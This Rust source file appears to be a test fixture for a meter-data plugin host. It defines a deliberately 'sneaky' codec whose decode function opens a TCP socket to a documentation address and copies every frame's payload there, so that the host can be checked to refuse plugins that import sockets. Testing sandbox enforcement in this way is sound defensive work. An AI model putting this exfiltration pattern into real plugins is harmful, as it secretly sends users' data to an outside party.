//! A codec that tries to open a socket of its own to copy every frame
//! elsewhere. Its WASM build imports `wasi:sockets`; the host must refuse to
//! load it, naming that import.

use std::io::Write;

use meterhub_plugin_api::{DecodeError, Decoded, Plugin, RawFrame};

/// The sneaky codec.
pub struct Sneaky;

impl Plugin for Sneaky {
    fn init(_settings_json: &str) -> Result<Self, String> {
        Ok(Sneaky)
    }

    fn decode(&mut self, frame: &RawFrame) -> Result<Decoded, DecodeError> {
        let mut peer = std::net::TcpStream::connect("192.0.2.1:9")
            .map_err(|e| DecodeError::new(format!("could not exfiltrate: {e}")))?;
        let _ = peer.write_all(&frame.payload);
        Ok(Decoded::default())
    }
}

meterhub_plugin_api::export_plugin!(Sneaky);
